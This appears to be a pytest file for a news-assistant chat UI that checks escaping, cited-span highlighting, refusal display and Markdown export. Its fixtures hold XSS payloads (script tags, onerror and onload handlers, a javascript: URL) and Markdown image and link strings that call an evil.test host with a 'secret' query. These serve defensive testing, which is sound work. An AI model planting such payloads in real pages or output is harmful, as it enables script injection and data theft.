"""The chat page's HTML and Markdown: escaping, the highlighted cited span, refusals, the export.

These check `ui.render` on `rag` values built by hand (an `Answer` is plain data); the same output
is checked in a real browser, with a real answer, in test_ui_browser.py.
"""

from __future__ import annotations

import re
import subprocess
import sys

from rag.answer.chain import REFUSAL_TEXT, Answer, Citation, Timings
from rag.index import FileReport, IndexReport
from ui import render
from ui.uploads import UploadResult

from ..factories import make_answer, make_citation

HOSTILE = 'Before <script>window.__pwned=1</script> and <img src=x onerror="window.__pwned=1"> after'


def _citation(n: int = 1, text: str = "Umerov asked for ammunition.", title: str = "French instructors",
              source: str = "seed.md", **news: object) -> Citation:
    return make_citation(n, text, doc_id="doc.md", title=title, source=source, start=100, score=0.0325,
                         similarity=0.42, **{"date": "", "outlet": "", **news})


NEWS = dict(date="2025-03-18", outlet="USA TODAY", url="https://www.usatoday.com/story/starliner",
            authors=["Jane Doe", "Li Wei"])


def _answer(text: str = "He asked for ammunition [1].", citations: list[Citation] | None = None,
            refused: bool = False, rewritten: str = "") -> Answer:
    return make_answer(text, [_citation()] if citations is None else citations, refused=refused,
                       rewritten_question=rewritten or "What did Umerov request?",
                       timings=Timings(retrieval_ms=12.0, first_token_ms=1500.0, total_ms=4200.0), model="test-model")


def _turn(answer: Answer, context: tuple[str, str, str] | None = None) -> render.Turn:
    contexts = {c.n: context or ("text before. ", c.text, " text after.") for c in answer.citations}
    return render.Turn(answer.question, answer, contexts)


def test_passage_markup_is_shown_as_text_not_html():
    card = render.source_card_html(_citation(text=HOSTILE), ("<b>before</b> ", HOSTILE, " <i>after</i>"), t=0)
    assert "<script" not in card and "<img" not in card and "<b>before" not in card
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in card
    assert "&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;" in card


def test_title_and_source_are_escaped_in_cards_and_answers():
    citation = _citation(title="<b>Title</b>", source='"><svg onload=alert(1)>')
    turn = _turn(_answer(citations=[citation]))
    html = render.sources_panel_html([turn]) + render.answer_html(turn, 0)
    assert "<b>Title</b>" not in html and "<svg" not in html
    assert "&lt;b&gt;Title&lt;/b&gt;" in html and "&lt;svg onload=alert(1)&gt;" in html


def test_model_text_is_escaped_in_the_answer():
    turn = _turn(_answer(text="Answer <img src=x onerror=alert(1)> [1]."))
    html = render.answer_html(turn, 0)
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_user_question_is_escaped():
    assert render.user_html("<script>x</script>") == '<div class="user-text">&lt;script&gt;x&lt;/script&gt;</div>'


def test_cited_span_is_highlighted_inside_its_surrounding_text():
    card = render.source_card_html(_citation(text="The cited passage."),
                                   ("Earlier sentence. ", "The cited passage.", " Later sentence."), t=2)
    match = re.search(r'<span class="context">(.*?)</span><mark class="cited">(.*?)</mark>'
                      r'<span class="context">(.*?)</span>', card)
    assert match is not None
    assert match.groups() == ("Earlier sentence. ", "The cited passage.", " Later sentence.")
    assert 'id="src-2-1"' in card


def test_long_context_is_trimmed_at_a_word_with_an_ellipsis():
    before = "word " * 200
    card = render.source_card_html(_citation(), (before, "Passage.", " tail" * 200), t=0, context_chars=50)
    head = re.search(r'<span class="context">(.*?)</span>', card).group(1)  # type: ignore[union-attr]
    assert head.startswith("…word") and len(head) <= 52


def test_card_shows_number_title_source_and_score():
    card = render.source_card_html(_citation(n=3), None, t=0)
    assert "[3]" in card and "French instructors" in card and "seed.md" in card and "score 0.0325" in card


def test_citations_in_the_answer_link_to_their_cards():
    html = render.answer_html(_turn(_answer()), 4)
    assert '<a class="cite" href="#src-4-1" title="Show source 1">[1]</a>' in html
    assert 'class="source-entry" href="#src-4-1"' in html


def test_citation_without_a_source_is_not_linked():
    html = render.answer_html(_turn(_answer(text="Fact [1] and [7].")), 0)
    assert "[7]" in html and 'href="#src-0-7"' not in html


def test_refusal_shows_no_sources_and_says_so():
    turn = _turn(_answer(text=REFUSAL_TEXT, citations=[], refused=True))
    answer = render.answer_html(turn, 0)
    panel = render.sources_panel_html([turn])
    assert render.NO_SOURCES_REFUSED in answer and render.NO_SOURCES_REFUSED in panel
    assert "source-card" not in panel and "source-entry" not in answer and 'class="cite"' not in answer


def test_refusal_api_text_has_no_sources():
    text = render.answer_as_text(_answer(text=REFUSAL_TEXT, citations=[], refused=True))
    assert text == f"{REFUSAL_TEXT}\n\n{render.NO_SOURCES_REFUSED}"


def test_rewritten_question_is_shown_only_when_it_differs():
    same = render.answer_html(_turn(_answer()), 0)
    rewritten = render.answer_html(_turn(_answer(rewritten="What weapons did Rustem Umerov request?")), 0)
    assert "Searched for" not in same
    assert "Searched for: <q>What weapons did Rustem Umerov request?</q>" in rewritten


def test_timings_and_model_are_under_the_answer():
    html = render.answer_html(_turn(_answer()), 0)
    assert "retrieval 12 ms · first token 1.5 s · total 4.2 s · test-model" in html


def test_panel_shows_latest_answer_and_keeps_earlier_ones():
    first, second = _turn(_answer()), _turn(_answer(text="Second [1]."))
    panel = render.sources_panel_html([first, render.Turn("broken", error="boom"), second])
    assert '<section class="turn-sources" id="sources-t0">' in panel
    assert '<section class="turn-sources active" id="sources-t2">' in panel
    assert "sources-t1" not in panel  # the failed question has no sources section


def test_api_text_lists_each_source_with_its_passage():
    text = render.answer_as_text(_answer())
    assert text.splitlines() == ["He asked for ammunition [1].", "", "Sources:",
                                 "[1] French instructors — seed.md (score 0.0325)",
                                 "    Umerov asked for ammunition."]


def test_markdown_export_holds_questions_answers_and_sources():
    turns = [_turn(_answer(rewritten="What weapons did Rustem Umerov request?")),
             render.Turn("Second?", error="The model is not loaded."),
             _turn(_answer(text=REFUSAL_TEXT, citations=[], refused=True))]
    md = render.conversation_markdown(turns, now=0)
    assert md.startswith("# Conversation with the news assistant\n\n_Exported 1970-01-01 00:00 UTC_")
    assert "## 1. What did Umerov request?" in md
    assert "_Searched for: What weapons did Rustem Umerov request?_" in md
    assert "He asked for ammunition [1]." in md
    assert "- **[1] French instructors** — seed.md, characters 100–128, score 0.0325" in md
    assert "  > Umerov asked for ammunition." in md
    assert "## 2. Second?\n\n**Error:** The model is not loaded." in md
    assert f"_{render.NO_SOURCES_REFUSED}_" in md


def test_markdown_export_escapes_article_markup():
    md = render.conversation_markdown([_turn(_answer(citations=[_citation(text=HOSTILE)]))], now=0)
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md


def test_index_report_lists_every_file_problems_first_and_escaped():
    report = IndexReport(added=1, skipped=1, failed=1, files=[
        FileReport("a.md", "skipped", 3), FileReport("new.md", "added", 2),
        FileReport("<bad>.pdf", "failed", 0, "no text layer; export it with text")])
    html = render.index_report_html(report)
    assert html.index("&lt;bad&gt;.pdf") < html.index("new.md") < html.index("a.md")
    assert "no text layer; export it with text" in html and "<bad>" not in html
    assert report.summary() in html


def test_upload_report_says_what_became_of_each_file_escaped():
    html = render.upload_report_html([UploadResult("../<x>.md", "x.md", "saved"),
                                      UploadResult("run.sh", "", "refused", "'.sh' is not an article type")], "corpus")
    assert "1 file copied into corpus. Click Re-index to make it searchable." in html
    assert "../&lt;x&gt;.md" in html and "<x>" not in html and "'.sh' is not an article type" in html.replace("&#x27;", "'")


def test_stats_show_documents_passages_and_last_indexed_but_not_where_the_index_lives():
    html = render.stats_html({"documents": 2, "chunks": 14, "last_indexed": "2026-01-02 03:04:05",
                              "location": "/data/chroma", "embedding": "MiniLM"}, "corpus")
    for value in ("2", "14", "2026-01-02 03:04:05", "corpus"):
        assert f">{value}<" in html
    assert "/data/chroma" not in html
    assert "Nothing is indexed yet" in render.stats_html(None, "corpus", "No index yet.")


# ---------------------------------------------------------------------------------------- news metadata
def test_every_source_card_shows_outlet_date_authors_and_links_the_article():
    card = render.source_card_html(_citation(**NEWS), None, t=0)
    assert "USA TODAY · 18 March 2025 · by Jane Doe, Li Wei" in card
    assert ('<a class="card-link" href="https://www.usatoday.com/story/starliner" target="_blank" '
            'rel="noopener noreferrer nofollow"') in card


def test_a_card_without_outlet_or_date_says_they_are_unknown():
    card = render.source_card_html(_citation(), None, t=0)
    assert "unknown outlet · undated" in card and "card-link" not in card


def test_a_url_that_is_not_http_is_not_made_a_link():
    card = render.source_card_html(_citation(url="javascript:alert(1)"), None, t=0)
    assert "javascript:" not in card and "card-link" not in card


def test_other_outlets_of_the_same_story_are_named_on_the_card_and_in_the_api_text():
    citation = _citation(also_reported_by=["CNN", "AP"], **NEWS)
    assert "Also reported by CNN, AP" in render.source_card_html(citation, None, t=0)
    assert "    Also reported by CNN, AP" in render.answer_as_text(_answer(citations=[citation]))
    assert "Also reported by" not in render.source_card_html(_citation(**NEWS), None, t=0)


def test_the_api_text_and_the_export_name_outlet_and_date():
    answer = _answer(citations=[_citation(**NEWS)])
    assert ("[1] French instructors — USA TODAY, 18 March 2025, by Jane Doe, Li Wei — seed.md "
            "(https://www.usatoday.com/story/starliner) (score 0.0325)") in render.answer_as_text(answer)
    assert "USA TODAY, 18 March 2025" in render.conversation_markdown([_turn(answer)], now=0)
    assert "· USA TODAY, 18 March 2025" in render.answer_html(_turn(answer), 0)


def test_supporting_sentences_are_highlighted_rather_than_the_whole_passage():
    text = "First sentence here. The supporting one. Last sentence."
    citation = _citation(text=text, spans=[(121, 140)])  # article coordinates: the passage starts at 100
    card = render.source_card_html(citation, ("Before. ", text, " After."), t=0)
    assert re.findall(r'<mark class="cited">(.*?)</mark>', card) == ["The supporting one."]
    assert '<span class="passage">First sentence here. </span>' in card
    assert '<span class="passage"> Last sentence.</span>' in card


def test_adjacent_spans_make_one_highlight_and_spans_outside_the_passage_are_dropped():
    text = "One. Two. Three."
    citation = _citation(text=text, spans=[(105, 109), (100, 104), (50, 60), (500, 510)])
    card = render.source_card_html(citation, None, t=0)
    assert re.findall(r'<mark class="cited">(.*?)</mark>', card) == ["One. Two."]


def test_without_spans_the_whole_passage_is_highlighted():
    card = render.source_card_html(_citation(text="Whole passage."), None, t=0)
    assert re.findall(r'<mark class="cited">(.*?)</mark>', card) == ["Whole passage."]


def test_a_refusal_shows_the_closest_passages_apart_and_unnumbered():
    closest = [_citation(n=1, text="Nearly relevant <b>text</b>.", **NEWS), _citation(n=2, text="Another one.")]
    answer = _answer(text=REFUSAL_TEXT, citations=[], refused=True)
    answer.passages = closest
    panel = render.sources_panel_html([_turn(answer)])
    assert render.CLOSEST_HEADING in panel and panel.count('class="near-card"') == 2
    assert "source-card" not in panel and "[1]" not in panel and "[2]" not in panel
    assert "Nearly relevant &lt;b&gt;text&lt;/b&gt;." in panel and "USA TODAY · 18 March 2025" in panel
    assert panel.index(render.NO_SOURCES_REFUSED) < panel.index(render.CLOSEST_HEADING)
    text = render.answer_as_text(answer)
    assert f"{render.CLOSEST_HEADING}:" in text and "[1]" not in text
    assert f"**{render.CLOSEST_HEADING}**" in render.conversation_markdown([_turn(answer)], now=0)


def test_closest_passages_are_not_shown_for_an_answer():
    panel = render.sources_panel_html([_turn(_answer())])
    assert render.CLOSEST_HEADING not in panel


def test_the_searched_range_is_shown_under_the_answer_and_in_the_api_text():
    answer = _answer()
    answer.filters = {"since": "2025-03-10", "until": "2025-03-16", "outlets": [], "prefer_recent": False,
                      "description": "articles from 10-16 March 2025"}
    assert '<div class="searched-filters">Searched articles from 10-16 March 2025</div>' in \
        render.answer_html(_turn(answer), 0)
    assert "Searched articles from 10-16 March 2025" in render.answer_as_text(answer)
    assert "searched-filters" not in render.answer_html(_turn(_answer()), 0)


def test_the_searched_range_is_described_by_the_core_when_the_answer_has_no_description():
    answer = _answer()
    answer.filters = {"since": "2025-03-10", "until": "2025-03-16", "outlets": ["AP"], "prefer_recent": False}
    assert render.filters_text(answer) == "Searched articles from 10-16 March 2025 by AP"


def test_upload_report_says_where_the_replaced_file_was_kept():
    html = render.upload_report_html([UploadResult("a.md", "a.md", "replaced", "the previous a.md is kept as "
                                                   ".backups/a.md.2026-11-25T140312.bak",
                                                   backup=".backups/a.md.2026-11-25T140312.bak")], "corpus")
    assert "kept in corpus/.backups" in html and ".backups/a.md.2026-11-25T140312.bak" in html


def test_add_report_lists_each_address_problems_first_escaped():
    from types import SimpleNamespace

    report = SimpleNamespace(items=[SimpleNamespace(url="https://a.example/ok", status="added", title="<i>A</i>"),
                                    SimpleNamespace(url="http://10.0.0.1/", status="failed",
                                                    reason="a private address")],
                             summary=lambda: "1 added, 1 failed")
    html = render.add_report_html(report)
    assert html.index("10.0.0.1") < html.index("a.example/ok")
    assert "a private address" in html and "1 added, 1 failed" in html and "<i>A</i>" not in html


def test_article_view_escapes_the_article():
    html = render.article_html({"doc_id": "a.md", "title": "<b>T</b>", "outlet": "AP", "date": "2025-01-02"},
                               HOSTILE)
    assert "<script" not in html and "<b>T</b>" not in html and "AP · 2 January 2025" in html


def test_importing_rag_and_the_renderer_does_not_load_gradio():
    code = "import sys, rag, ui, ui.render, ui.uploads; print('gradio' in sys.modules)"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "False"


EXFILTRATING = ("See ![chart](http://evil.test/leak.png?q=secret) and [the report](http://evil.test/r) or "
                "<http://evil.test/auto> <img src=http://evil.test/i.png> [ref]: http://evil.test/def "
                "http://evil.test/bare www.evil.test mail me@evil.test ![ref] `code` **bold** ~~gone~~")


def test_markdown_export_keeps_no_image_or_link_from_article_text():
    # A Markdown viewer opening the export must load nothing and link nowhere the article chose: the
    # one link is the article's own address, made by the export as the page makes it.
    from markdown_it import MarkdownIt

    citation = _citation(text=EXFILTRATING, title="# " + EXFILTRATING, outlet="![o](http://evil.test/o.png)",
                         url="https://news.example.com/story")
    answer = _answer(text="[1]: http://evil.test/def " + EXFILTRATING + " [1]", citations=[citation])
    refused = _answer(text=REFUSAL_TEXT, citations=[], refused=True)
    refused.passages = [_citation(text=EXFILTRATING, title=EXFILTRATING)]
    md = render.conversation_markdown([_turn(answer), _turn(refused),
                                       render.Turn("![q](http://evil.test/q.png)", error=EXFILTRATING)], now=0)
    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md)
    assert "<img" not in page and "<code>" not in page and "<s>" not in page
    assert re.findall(r'<a href="([^"]*)"', page) == ["https://news.example.com/story"]
    # GFM's own autolinks (a bare scheme://, www., an e-mail) are defused too.
    assert "http://evil" not in md and "www.evil" not in md and "me@evil" not in md
    assert "http\\://evil.test/bare" in md and "www\\.evil.test" in md and "me\\@evil.test" in md
    # The citation markers stay readable; the viewer shows the article's text as written.
    assert "[1]" in md and "See \\!\\[chart\\](http\\://evil.test/leak.png?q=secret)" in md
    assert "![chart](http://evil.test/leak.png?q=secret)" in page
